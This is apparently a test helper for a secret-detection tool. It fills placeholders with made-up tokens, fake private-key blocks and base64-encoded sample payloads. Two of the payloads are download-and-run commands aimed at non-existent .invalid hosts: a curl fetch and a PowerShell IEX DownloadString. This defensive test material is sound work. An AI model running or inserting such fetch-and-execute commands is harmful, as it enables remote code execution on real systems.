/** Puts secrets made up on the spot in the place of `{{kind:name}}`, so that no file of this repository looks like a leak. */
import { createHash } from 'node:crypto'
import { providers } from '../../src/detect/secret-table.generated.js'
import { checksumOf } from '../../src/detect/token-checksum.js'
import { matchingString } from './matching-string.js'

/** Example text with every placeholder filled, the same way each time. Throws on a name it does not know. */
export function filled(text: string): string {
  return text.replace(
    /\{\{(key|base64|payload|token|value):([a-z0-9-]{1,40})\}\}/g,
    (placeholder, kind: string, name: string) => {
      const make =
        kind === 'token'
          ? () => tokenOf(name)
          : kind === 'value'
            ? () => valueOf(name)
            : { key: keys, base64, payload: payloads }[kind]?.[name]
      if (!make) throw new Error(`${placeholder} is no placeholder that __tests__/rules/placeholders.ts can fill`)
      return make()
    }
  )
}

type Maker = () => string

/** A token as the table's rule of that name describes it, with its checksum where there is one. */
export function tokenOf(id: string, seed = ''): string {
  const entry = providers.find((provider) => provider.id === id)
  if (!entry) throw new Error(`The table of credentials has no rule ${id}`)
  const token = matchingString(entry.pattern, `${id}${seed}`)
  return /^(?:gh[pousr]|npm)_\w{36}$/.test(token) ? token.slice(0, -6) + checksumOf(token.slice(4, -6)) : token
}

/** `hex-40`, `alnum-32`, `password-14`: that many characters nobody chose, a digit among them. */
function valueOf(name: string): string {
  const [set, length] = name.split('-')
  const pattern = { hex: '[0-9a-f]', alnum: '[0-9a-zA-Z]', password: '[0-9a-zA-Z!%+=?-]' }[set ?? '']
  if (pattern === undefined || length === undefined) throw new Error(`No value of this kind: ${name}`)
  return matchingString(new RegExp(`${pattern}{${Number(length) - 1}}[0-9]`), name)
}

const dashes = '-'.repeat(5)

/** Bytes that nobody chose, the same for the same seed, behind those with which such a key begins. */
function base64Of(seed: string, beginning: string, bytes: number): string {
  const parts = [Buffer.from(beginning, 'base64')]
  for (let i = 0; i * 32 < bytes; i++) parts.push(createHash('sha256').update(`${seed} ${i}`).digest())
  return Buffer.concat(parts).subarray(0, bytes).toString('base64')
}

function linesOf(text: string, width = 64): readonly string[] {
  return text.match(new RegExp(`.{1,${width}}`, 'g')) ?? []
}

function block(label: string, body: readonly string[], separator = '\n'): string {
  return [`${dashes}BEGIN ${label}${dashes}`, ...body, `${dashes}END ${label}${dashes}`].join(separator)
}

const rsa = linesOf(base64Of('rsa', 'MIIEpAIBAAKCAQEA', 1190))
const pkcs8 = linesOf(base64Of('pkcs8', 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC', 1218))
const privateKey = 'PRIVATE KEY'

const keys: Readonly<Record<string, Maker>> = {
  rsa: () => block(`RSA ${privateKey}`, rsa),
  ec: () => block(`EC ${privateKey}`, linesOf(base64Of('ec', 'MHcCAQEEI', 121))),
  encrypted: () => block(`ENCRYPTED ${privateKey}`, linesOf(base64Of('encrypted', 'MIIFHDBOBgkqhkiG9w0B', 1312))),
  'legacy-encrypted': () =>
    block(`RSA ${privateKey}`, ['Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,0123456789ABCDEF', '', ...rsa]),
  openssh: () =>
    block(
      `OPENSSH ${privateKey}`,
      linesOf(base64Of('openssh', 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB', 420), 70)
    ),
  ed25519: () => block(privateKey, linesOf(base64Of('ed25519', 'MC4CAQAwBQYDK2VwBCIEI', 48))),
  'pkcs8-quoted': () => block(privateKey, pkcs8, '\n> '),
  'pkcs8-one-line': () => block(privateKey, pkcs8, ' '),
  'pkcs8-escaped': () => block(privateKey, pkcs8, '\\n'),
  'dsa-indented': () => block(`DSA ${privateKey}`, linesOf(base64Of('dsa', 'MIIBugIBAAKBgQD', 446)), '\n    '),
  pgp: () =>
    block(`PGP ${privateKey} BLOCK`, ['Version: GnuPG v2', '', ...linesOf(base64Of('pgp', 'lQOYBF', 960)), '=8xQN']),
  putty: () =>
    [
      'PuTTY-User-Key-File-3: ssh-ed25519',
      'Encryption: none',
      'Comment: laptop',
      'Public-Lines: 2',
      ...linesOf(base64Of('public', 'AAAAC3NzaC1lZDI1NTE5AAAAI', 51)),
      'Private-Lines: 2',
      ...linesOf(base64Of('private', 'AAAAI', 72)),
      `Private-MAC: ${createHash('sha256').update('mac').digest('hex')}`
    ].join('\n'),
  unterminated: () => [`${dashes}BEGIN RSA ${privateKey}${dashes}`, ...rsa.slice(0, 5), 'c2hvcnQ='].join('\n')
}

const base64: Readonly<Record<string, Maker>> = {
  random: () => base64Of('random', '', 48),
  repeated: () => 'MIIEpAIB'.repeat(8),
  alphabet: () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',
  sentence: () =>
    linesOf(
      Buffer.from('This is not a real key. It only shows where the real one goes in your file.').toString('base64')
    ).join('\n')
}

function encoded(text: string, encoding: BufferEncoding = 'utf8'): string {
  return Buffer.from(text, encoding).toString('base64')
}

function hexOf(text: string, prefix: string): string {
  return [...Buffer.from(text)].map((byte) => prefix + byte.toString(16).padStart(2, '0')).join('')
}

const sentence = 'nothing here does anything at all, it is a sentence'

/** Encoded text; what would do something leads to hosts that cannot exist. */
const payloads: Readonly<Record<string, Maker>> = {
  fetch: () => encoded('curl -s https://files.invalid/run.sh -o /tmp/run'),
  shell: () => encoded("IEX (New-Object Net.WebClient).DownloadString('https://files.invalid/a')", 'utf16le'),
  words: () => encoded(sentence),
  program: () =>
    linesOf(Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(232, 7)]).toString('base64'), 76).join(
      '\n'
    ),
  escapes: () => hexOf(sentence, '\\x'),
  percent: () => hexOf(sentence, '%'),
  scrambled: () => '(![]+[])[+[]]+(!![]+[])[+!+[]]+'.repeat(6),
  blob: () => base64Of('blob', '', 240).replaceAll('+', 'A'),
  digits: () => createHash('sha256').update('digits').digest('hex')
}
